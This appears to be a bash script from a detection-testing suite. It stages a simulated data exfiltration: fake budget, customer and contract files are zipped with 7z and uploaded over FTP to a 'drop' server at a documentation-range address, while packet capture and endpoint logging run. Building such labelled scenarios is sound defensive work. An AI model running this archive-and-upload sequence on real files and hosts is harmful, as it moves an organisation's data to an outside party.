#!/usr/bin/env bash
# See README.md. Leaves capture.pcap, endpoint.jsonl and expected.json.
set -euo pipefail
cd "$(dirname "${BASH_SOURCE[0]}")"
# shellcheck source-path=SCRIPTDIR source=../lib.sh
. ../lib.sh
need 7z tnftp

host pc 10.20.0.42
server drop 203.0.113.21
vsftpd_start drop upload 'not-a-secret-1'

docs=$WORK/documents
make_file docx 38000 budget "$docs/Budget 2025.docx"
make_file xlsx 52000 customers "$docs/Customers.xlsx"
make_file pdf 31000 agreement "$docs/Supplier agreement.pdf"
(cd "$docs" && 7z a -bso0 -bsp0 "$WORK/old.7z" ./*)

cat >"$WORK/script.txt" <<'SCRIPT'
user upload not-a-secret-1
quote OPTS UTF8 ON
epsv4
binary
put old.7z
bye
SCRIPT

capture_start
(cd "$WORK" && on pc tnftp -A -n -i 203.0.113.21 <script.txt >tnftp.log)
capture_stop
finish
